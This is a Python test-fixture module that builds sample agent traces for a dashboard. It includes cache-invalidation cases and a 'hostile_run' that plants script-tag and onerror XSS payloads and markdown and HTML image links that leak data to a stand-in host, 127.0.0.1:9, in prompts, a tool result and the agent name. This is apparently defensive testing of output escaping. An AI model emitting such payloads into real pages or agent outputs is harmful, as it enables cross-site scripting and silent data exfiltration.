"""Extra runs for dashboard tests, built with the sample builder (``collector.demo.samples.Trace``).

* ``hostile_run``: captured prompt, tool result and agent name carrying script
  tags, ``onerror`` handlers and markdown-image exfiltration to 127.0.0.1:9.
* ``cache_break_run``: three turns whose system prompt gains a clock on turn 3,
  so turn 3 reads nothing back from the cache (the seed's invalidator #1).
* ``below_minimum_run``: two turns with a breakpoint on a prefix shorter than
  claude-opus-5's minimum cacheable length (512 tokens): nothing is cached.
  Not among ``EXTRA``: tests load it into a ledger of its own.
"""

from __future__ import annotations

from typing import Any

from collector.demo.samples import SYSTEM, T0, TOOLS, Trace
from ledger.spans import SpanRecord

EXFIL_HOST = "127.0.0.1:9"
SCRIPT = "<script>window.__pwned=1;alert(1)</script>"
IMG = '<img src=x onerror="window.__pwned=2;alert(2)">'
MD_IMAGE = f"![x](http://{EXFIL_HOST}/leak?d=secret)"
HTML_IMAGE = f'<img src="http://{EXFIL_HOST}/leak?d=img">'
HOSTILE_AGENT = 'evil<img src=x onerror="window.__pwned=4">'
TOOL_RESULT = f"![y](http://{EXFIL_HOST}/leak?d=tool) <script>window.__pwned=3</script>"
CLOCK_BEFORE = "Current time: 2026-09-21T14:20:00Z."
CLOCK_AFTER = "Current time: 2026-09-21T14:25:00Z."


def _payload(system: str, messages: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "model": "claude-opus-5",
        "max_tokens": 1024,
        "system": [{"type": "text", "text": system, "cache_control": {"type": "ephemeral"}}],
        "tools": TOOLS,
        "messages": [dict(m) for m in messages],
    }


def hostile_run() -> list[SpanRecord]:
    t = Trace("hostile", agent=HOSTILE_AGENT, tenant="acme", start=T0 + 7_200_000 * 1_000_000)
    messages: list[dict[str, Any]] = [
        {"role": "user", "content": f"Summarize this page: {IMG} then {MD_IMAGE} and {HTML_IMAGE}"}
    ]
    t.chat("claude-opus-5", (400, 0, 0, 40), payload=_payload(f"Be helpful. {SCRIPT}", messages))
    t.tool("search_docs", {"q": "page"}, TOOL_RESULT, soft_failure=True)
    messages += [
        {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_9", "name": "search_docs", "input": {"q": "page"}}]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_9", "content": TOOL_RESULT}]},
    ]  # fmt: skip
    t.chat("claude-opus-5", (600, 0, 0, 60), payload=_payload(f"Be helpful. {SCRIPT}", messages), finish="end_turn")
    return t.finish("completed")


def cache_break_run() -> list[SpanRecord]:
    t = Trace("cache-break", agent="support-agent", tenant="acme", start=T0 + 10_800_000 * 1_000_000)
    messages: list[dict[str, Any]] = [{"role": "user", "content": "where is my order"}]
    usages = [(20, 6_000, 0, 100), (0, 300, 6_000, 100), (6_320, 320, 0, 100)]
    for i, usage in enumerate(usages):
        clock = CLOCK_AFTER if i == 2 else CLOCK_BEFORE
        t.chat("claude-opus-5", usage, payload=_payload(f"{SYSTEM} {clock}", messages))
        messages += [
            {"role": "assistant", "content": [{"type": "text", "text": f"step {i + 1}"}]},
            {"role": "user", "content": [{"type": "text", "text": "go on"}]},
        ]
    return t.finish("completed")


EXTRA = {"hostile_run": hostile_run, "cache_break_run": cache_break_run}


def below_minimum_run() -> list[SpanRecord]:
    t = Trace("below-minimum", agent="support-agent", tenant="acme", start=T0 + 14_400_000 * 1_000_000)
    messages: list[dict[str, Any]] = [{"role": "user", "content": "where is my order"}]
    short = {"type": "text", "text": "Be brief.", "cache_control": {"type": "ephemeral"}}
    for i in range(2):
        payload = {
            "model": "claude-opus-5",
            "max_tokens": 256,
            "system": [short],
            "messages": [dict(m) for m in messages],
        }
        t.chat("claude-opus-5", (120 + 40 * i, 0, 0, 30), payload=payload)
        messages += [{"role": "assistant", "content": "checking"}, {"role": "user", "content": "go on"}]
    return t.finish("completed")
